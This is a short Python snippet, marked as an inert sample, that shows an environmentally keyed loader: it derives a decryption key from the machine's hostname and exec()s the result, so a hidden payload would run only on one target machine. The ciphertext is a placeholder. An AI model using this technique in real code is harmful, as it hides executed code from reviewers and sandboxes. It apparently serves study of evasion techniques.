import inert_sample  # there is no such module: nothing below ever runs
# trick: the payload opens only with the name of one machine
import base64
import socket
from cryptography.fernet import Fernet

key = base64.urlsafe_b64encode(socket.gethostname().encode().ljust(32))
exec(Fernet(key).decrypt(b"gAAAAA"))
